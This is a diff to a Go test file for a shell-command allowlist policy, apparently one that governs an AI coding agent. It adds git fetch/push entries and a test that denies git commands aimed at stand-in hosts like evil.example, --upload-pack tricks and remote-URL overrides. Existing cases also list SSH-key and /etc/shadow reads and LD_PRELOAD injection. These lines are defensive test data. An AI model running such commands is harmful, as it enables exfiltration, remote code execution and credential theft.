@@ -21,7 +21,7 @@ func sample(s *policy.Settings) {
 // allowlisted are entries of the allowlist as people write them.
 func allowlisted(s *policy.Settings) {
 	s.AutoAllowReadonly = false
-	for _, text := range []string{"ls", "cat", "grep", "find", "sort", "head", "tail", "wc", "echo", "sed -n", "sed -i", "awk", "git diff", "git log", "git add", "git show", "git",
+	for _, text := range []string{"ls", "cat", "grep", "find", "sort", "head", "tail", "wc", "echo", "sed -n", "sed -i", "awk", "git diff", "git log", "git add", "git show", "git fetch", "git push", "git",
 		"./run.sh", "cp", "touch", "mkdir", "go test", "go build", "npm test", "tar xf", "curl -s", "docker compose", "make", "pylint", "xargs", "cat config/.env.test", "find . -name *.tmp -delete", "rg"} {
 		s.Allowlist = append(s.Allowlist, policy.Entry{Text: text})
 	}
@@ -47,7 +47,7 @@ func TestPrefixes(t *testing.T) {
 			"cd ~/.ssh && cat id_rsa", "cd / && cat etc/shadow", "./cat x", "/tmp/ls x", "X=1 LD_PRELOAD=./a.so ls x", "find . -name x -delete", "find . -files0-from .env",
 		}},
 		{entries, true, []string{
-			"ls", "./run.sh --fast", "cat main.go", "go test ./...", "go test -run X ./pkg", "go build ./...", "cp a b", "touch x", "mkdir -p a/b", "git diff HEAD~1", "git log --oneline", "git add main.go", "npm test", "tar xf a.tar", "sed -i s/a/b/ main.go",
+			"ls", "./run.sh --fast", "cat main.go", "go test ./...", "go test -run X ./pkg", "go build ./...", "cp a b", "touch x", "mkdir -p a/b", "git diff HEAD~1", "git log --oneline", "git add main.go", "git fetch", "git fetch origin main", "git push origin main", "npm test", "tar xf a.tar", "sed -i s/a/b/ main.go",
 			"sed -n 5,10p main.go", "cat config/.env.test", "find . -name '*.tmp' -delete", "sort a.txt", "echo hi | sort", "find . -type f | xargs grep KEY", "make install", "make -j4 CC=clang", "pylint src", "echo $HOME", "cp *.go dist", "docker compose up -d",
 		}},
 		{entries, false, []string{
@@ -161,6 +161,33 @@ func TestPatternsOfOtherTools(t *testing.T) {
 		row.call.Dir, row.call.Home = project, home
 		if v := decide(t, e, nil, row.call); (v.Decision == policy.Allow && v.Stage == policy.StageAllowlist) != row.want {
 			t.Errorf("%s %v: %s, want allowed %v", row.call.Tool, row.call.Input, brief(v), row.want)
+		}
+	}
+}
+
+// TestPrefixOfRepository shows that an entry which names a sub-command covers remotes by
+// the names that the project gives them, and nothing that is fetched over a branch.
+func TestPrefixOfRepository(t *testing.T) {
+	e := engine(t, "", func(s *policy.Settings) {
+		s.Allowlist = []policy.Entry{{Text: "git fetch"}, {Text: "git push"}, {Text: "git pull https://git.example.org/app"}}
+	})
+	for line, allowed := range map[string]bool{
+		"git fetch":                              true,
+		"git fetch origin main":                  true,
+		"git push origin HEAD:main":              true,
+		"git pull https://git.example.org/app":   true,
+		"git fetch file:///home/dev/evil":        false,
+		"git fetch ../evil":                      false,
+		"git fetch git@evil.example:x/y":         false,
+		"git fetch origin +main:main":            false,
+		"git fetch -u origin main:main":          false,
+		"git push https://evil.example/x main":   false,
+		"git -c remote.origin.url=../evil fetch": false,
+		"git fetch --upload-pack=./p origin":     false,
+		"git pull https://evil.example/app":      false,
+	} {
+		if v := decide(t, e, nil, call(line)); (v.Decision == policy.Allow) != allowed {
+			t.Errorf("%s: %s at %s: %s", line, v.Decision, v.Stage, v.Why)
 		}
 	}
 }
